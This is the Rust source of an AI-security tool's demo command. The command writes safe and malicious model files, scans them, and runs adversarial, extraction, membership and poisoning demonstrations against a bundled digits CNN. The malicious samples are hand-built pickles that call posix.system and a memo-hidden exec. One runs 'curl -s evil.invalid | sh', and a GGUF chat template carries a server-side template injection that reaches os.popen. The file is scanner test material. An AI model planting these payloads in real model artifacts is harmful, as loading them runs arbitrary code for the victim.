//! `aisec demo`: the README's first command. It writes a small set of safe
//! and malicious model artifacts to a temporary folder (every byte is
//! written here by hand; nothing is pickled from live objects), scans them
//! and prints the report.

use std::io::Write;
use std::path::{Path, PathBuf};

use aisec_scan::{ScanOptions, Scanner};
use anyhow::Context;

use crate::output::ReportArgs;

/// Arguments of `aisec demo`.
#[derive(Debug, clap::Args)]
pub struct DemoArgs {
    /// Keep the sample artifacts in DIR instead of a temporary folder.
    #[arg(long, value_name = "DIR")]
    pub keep: Option<PathBuf>,

    /// Run only these sections (comma-separated): scan, evasion, hardening, extraction, membership, poisoning, probe, guard.
    #[arg(long, value_delimiter = ',', value_name = "SECTION,...")]
    pub only: Vec<Section>,

    #[command(flatten)]
    pub output: ReportArgs,
}

/// The demo's sections, in the order they run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Section {
    /// Write the sample artifacts and scan them.
    Scan,
    /// FGSM and PGD against the bundled digits CNN.
    Evasion,
    /// Adversarially fine-tune the digits CNN (PGD-AT) and re-measure it.
    Hardening,
    /// Steal the digits CNN through its outputs.
    Extraction,
    /// Loss and LiRA membership inference on an MLP trained at run time.
    Membership,
    /// Plant a backdoor in a digits MLP, detect it (Neural Cleanse, STRIP) and repair it.
    Poisoning,
    /// Probe a weak chat app on loopback.
    Probe,
    /// A session through aisec guard.
    Guard,
}

/// Runs the demo. Findings are the point of the demo, so it exits 0 unless
/// something fails.
pub fn run(args: DemoArgs) -> anyhow::Result<i32> {
    let tmp;
    let dir: &Path = match &args.keep {
        Some(d) => {
            std::fs::create_dir_all(d).with_context(|| format!("cannot create {}", d.display()))?;
            d
        }
        None => {
            tmp = tempfile::tempdir().context("cannot create a temporary folder")?;
            tmp.path()
        }
    };
    let started = std::time::Instant::now();
    let on = |s: Section| args.only.is_empty() || args.only.contains(&s);
    let mut report = aisec_core::Report::new("demo");
    if on(Section::Scan) {
        let written = write_samples(dir)?;
        crate::run::note(format_args!(
            "aisec demo: wrote {} sample artifacts (safe and malicious) to {}; scanning them.\n",
            written.len(),
            aisec_core::render::escape_terminal(&dir.display().to_string())
        ));
        let scanner = Scanner::new(ScanOptions::default());
        let scan = scanner.scan_paths(&[dir.to_path_buf()], &|_| {});
        report.merge(scan);
    }

    if on(Section::Evasion) {
        crate::run::note(format_args!(
            "aisec demo: attacking a bundled 8x8-digits CNN with FGSM and PGD (L-inf, eps 0.1).\n"
        ));
        let evasion = demo_evasion(dir)?;
        report.merge(evasion);
    }

    if on(Section::Hardening) {
        crate::run::note(format_args!(
            "aisec demo: hardening the same CNN by adversarial fine-tuning (PGD-AT, 5 epochs); PGD robust accuracy before and after.\n"
        ));
        report.merge(crate::cmd::harden::demo_hardening(dir)?);
    }

    if on(Section::Extraction) {
        crate::run::note(format_args!(
            "aisec demo: stealing the same CNN with 50 and 200 in-distribution queries (model extraction).\n"
        ));
        let model = write_digits_cnn(dir)?;
        let extraction = crate::cmd::extraction::demo_extraction(&model)?;
        report.merge(extraction);
    }

    if on(Section::Membership) {
        crate::run::note(format_args!(
            "aisec demo: membership inference (loss threshold, LiRA with 4 shadow models) on an MLP trained here on half of 500 digits.\n"
        ));
        let membership = crate::cmd::membership::demo_membership(dir)?;
        report.merge(membership);
    }

    if on(Section::Poisoning) {
        crate::run::note(format_args!(
            "aisec demo: poisoning: plant a BadNets backdoor in a digits MLP, find it with Neural Cleanse and STRIP, remove it by unlearning.\n"
        ));
        let poisoning = crate::cmd::defend::demo::demo_poisoning(dir)?;
        report.merge(poisoning);
    }

    if on(Section::Probe) {
        crate::run::note(format_args!(
            "aisec demo: probing a deliberately weak chat app on 127.0.0.1 with every probe family.\n"
        ));
        let probe = aisec_probe::demo::run_demo()?;
        report.merge(probe);
    }

    if on(Section::Guard) {
        crate::run::note(format_args!(
            "aisec demo: a short session through aisec guard in front of a scripted model server.\n"
        ));
        let guard = aisec_guard::run_demo()?;
        report.merge(guard);
    }

    // The run's wall clock: merging adds up the sections' own times, and most
    // demo sections do not time themselves (the sum said 0.59 s for a 0.84 s run).
    report.summary.seconds = started.elapsed().as_secs_f64();
    // Findings are the point of the demo: 0 unless it failed or was
    // interrupted (so it takes no --fail-on).
    crate::run::finish(report, &args.output.to_output())
}

/// The CNN trained on scikit-learn's 8x8 digits (see
/// crates/aisec/assets/README.md for its source and licence),
/// and 16 test digits with their labels.
const DIGITS_CNN: &[u8] = include_bytes!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/assets/digits_cnn.onnx"
));
const DIGITS_X: &[u8] = include_bytes!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/assets/digits_cnn.x.npy"
));
const DIGITS_Y: &[u8] = include_bytes!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/assets/digits_cnn.y.npy"
));

/// Writes the bundled digits CNN to `dir/models/digits_cnn.onnx`.
fn write_digits_cnn(dir: &Path) -> anyhow::Result<PathBuf> {
    let model_path = dir.join("models/digits_cnn.onnx");
    if let Some(p) = model_path.parent() {
        std::fs::create_dir_all(p)?;
    }
    std::fs::write(&model_path, DIGITS_CNN)?;
    Ok(model_path)
}

fn demo_evasion(dir: &Path) -> anyhow::Result<aisec_core::Report> {
    let model_path = write_digits_cnn(dir)?;
    let model = aisec_model::OnnxModel::load(&model_path)?;
    let x = aisec_model::data::npy::parse_npy(DIGITS_X)?.to_tensor();
    let y = aisec_model::data::npy::parse_npy(DIGITS_Y)?.to_labels()?;
    let mut cfg = aisec_attack::EvasionConfig {
        attacks: vec![
            aisec_attack::AttackKind::Fgsm,
            aisec_attack::AttackKind::Pgd,
        ],
        eps: 0.1,
        eps_curve: vec![0.05, 0.1, 0.2],
        ..aisec_attack::EvasionConfig::default()
    };
    cfg.pgd.steps = 20;
    let (report, _) = crate::cmd::attack::evaluate(
        &model,
        &x,
        &y,
        &cfg,
        &model_path.display().to_string(),
        false,
    )?;
    Ok(report)
}

/// Writes the sample artifacts below `dir` and returns their paths.
pub fn write_samples(dir: &Path) -> anyhow::Result<Vec<PathBuf>> {
    let mut out = Vec::new();
    let mut put = |rel: &str, bytes: &[u8]| -> anyhow::Result<()> {
        let p = dir.join(rel);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&p, bytes).with_context(|| format!("cannot write {}", p.display()))?;
        out.push(p);
        Ok(())
    };
    put("safe/state_dict.pkl", &benign_pickle())?;
    put(
        "safe/model.pt",
        &torch_zip("model", &torch_state_dict_pickle())?,
    )?;
    put("safe/model.safetensors", &safetensors())?;
    put("safe/chat.gguf", &gguf(SAFE_TEMPLATE))?;
    put("malicious/reverse_shell.pkl", &system_pickle("id"))?;
    put(
        "malicious/checkpoint.pt",
        &torch_zip("checkpoint", &exec_pickle())?,
    )?;
    put(
        "malicious/weights.safetensors",
        &system_pickle("curl -s evil.invalid | sh"),
    )?;
    put("malicious/chat.gguf", &gguf(SSTI_TEMPLATE))?;
    put("malicious/lambda.keras", &keras_lambda_zip()?)?;
    put(
        "malicious/embeddings.npy",
        &npy_object(&system_pickle("id")),
    )?;
    Ok(out)
}

fn binunicode(v: &mut Vec<u8>, s: &str) {
    v.push(b'X');
    v.extend_from_slice(&(s.len() as u32).to_le_bytes());
    v.extend_from_slice(s.as_bytes());
}

fn global(v: &mut Vec<u8>, module: &str, name: &str) {
    v.push(b'c');
    v.extend_from_slice(module.as_bytes());
    v.push(b'\n');
    v.extend_from_slice(name.as_bytes());
    v.push(b'\n');
}

/// `{'epoch': 3, 'lr': [1, 2]}` at protocol 2.
fn benign_pickle() -> Vec<u8> {
    let mut v = vec![0x80, 2, b'}', b'('];
    binunicode(&mut v, "epoch");
    v.extend_from_slice(&[b'K', 3]);
    binunicode(&mut v, "lr");
    v.extend_from_slice(&[b']', b'(', b'K', 1, b'K', 2, b'e']);
    v.extend_from_slice(b"u.");
    v
}

/// What `torch.save(model.state_dict())` pickles for one 2x2 float tensor.
fn torch_state_dict_pickle() -> Vec<u8> {
    let mut v = vec![0x80, 2];
    global(&mut v, "collections", "OrderedDict");
    v.extend_from_slice(b")R");
    binunicode(&mut v, "weight");
    global(&mut v, "torch._utils", "_rebuild_tensor_v2");
    v.push(b'(');
    // persistent id ('storage', torch.FloatStorage, '0', 'cpu', 4)
    v.push(b'(');
    binunicode(&mut v, "storage");
    global(&mut v, "torch", "FloatStorage");
    binunicode(&mut v, "0");
    binunicode(&mut v, "cpu");
    v.extend_from_slice(&[b'K', 4, b't', b'Q']);
    v.extend_from_slice(&[b'K', 0]); // storage offset
    v.extend_from_slice(&[b'K', 2, b'K', 2, 0x86]); // size
    v.extend_from_slice(&[b'K', 2, b'K', 1, 0x86]); // stride
    v.push(0x89); // requires_grad=False
    global(&mut v, "collections", "OrderedDict");
    v.extend_from_slice(b")R");
    v.extend_from_slice(b"tR");
    v.extend_from_slice(b"s.");
    v
}

/// `posix.system(cmd)`: the classic malicious pickle.
fn system_pickle(cmd: &str) -> Vec<u8> {
    let mut v = vec![0x80, 2];
    global(&mut v, "posix", "system");
    binunicode(&mut v, cmd);
    v.extend_from_slice(&[0x85, b'R', b'.']);
    v
}

/// A checkpoint whose pickle hides `exec` behind a memo lookup.
fn exec_pickle() -> Vec<u8> {
    let mut v = vec![0x80, 2];
    global(&mut v, "builtins", "exec");
    v.extend_from_slice(&[b'q', 7, b'0']); // BINPUT 7, POP
    v.extend_from_slice(&[b'h', 7]); // BINGET 7
    binunicode(&mut v, "import os; os.system('id')");
    v.extend_from_slice(&[0x85, b'R', b'.']);
    v
}

fn torch_zip(root: &str, pickle: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        z.start_file(format!("{root}/data.pkl"), opts)?;
        z.write_all(pickle)?;
        z.start_file(format!("{root}/byteorder"), opts)?;
        z.write_all(b"little")?;
        z.start_file(format!("{root}/data/0"), opts)?;
        for x in [1.0f32, 2.0, 3.0, 4.0] {
            z.write_all(&x.to_le_bytes())?;
        }
        z.start_file(format!("{root}/version"), opts)?;
        z.write_all(b"3\n")?;
        z.finish()?;
    }
    Ok(buf.into_inner())
}

fn safetensors() -> Vec<u8> {
    let mut header = br#"{"weight":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}"#.to_vec();
    while !header.len().is_multiple_of(8) {
        header.push(b' ');
    }
    let mut v = (header.len() as u64).to_le_bytes().to_vec();
    v.extend_from_slice(&header);
    for x in [1.0f32, 2.0, 3.0, 4.0] {
        v.extend_from_slice(&x.to_le_bytes());
    }
    v
}

const SAFE_TEMPLATE: &str = "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}";
const SSTI_TEMPLATE: &str = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}";

fn gguf(template: &str) -> Vec<u8> {
    fn s(v: &mut Vec<u8>, x: &str) {
        v.extend_from_slice(&(x.len() as u64).to_le_bytes());
        v.extend_from_slice(x.as_bytes());
    }
    let mut v = b"GGUF".to_vec();
    v.extend_from_slice(&3u32.to_le_bytes());
    v.extend_from_slice(&0u64.to_le_bytes()); // tensors
    v.extend_from_slice(&2u64.to_le_bytes()); // key/values
    s(&mut v, "general.architecture");
    v.extend_from_slice(&8u32.to_le_bytes());
    s(&mut v, "llama");
    s(&mut v, "tokenizer.chat_template");
    v.extend_from_slice(&8u32.to_le_bytes());
    s(&mut v, template);
    v
}

fn keras_lambda_zip() -> anyhow::Result<Vec<u8>> {
    // The Lambda's function is base64 of marshalled bytecode in real files;
    // these bytes are only a short marker, never executable.
    let config = r#"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
  {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "name": "input"}},
  {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOegJpZCkB2gRleGVjKQHaAXipAHICAAAA", "defaults": null, "closure": null}}}}]}}"#;
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        z.start_file("metadata.json", opts)?;
        z.write_all(br#"{"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"}"#)?;
        z.start_file("config.json", opts)?;
        z.write_all(config.as_bytes())?;
        z.finish()?;
    }
    Ok(buf.into_inner())
}

fn npy_object(pickle: &[u8]) -> Vec<u8> {
    let mut header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".to_string();
    while !(10 + header.len() + 1).is_multiple_of(64) {
        header.push(' ');
    }
    header.push('\n');
    let mut v = b"\x93NUMPY\x01\x00".to_vec();
    v.extend_from_slice(&(header.len() as u16).to_le_bytes());
    v.extend_from_slice(header.as_bytes());
    v.extend_from_slice(pickle);
    v
}
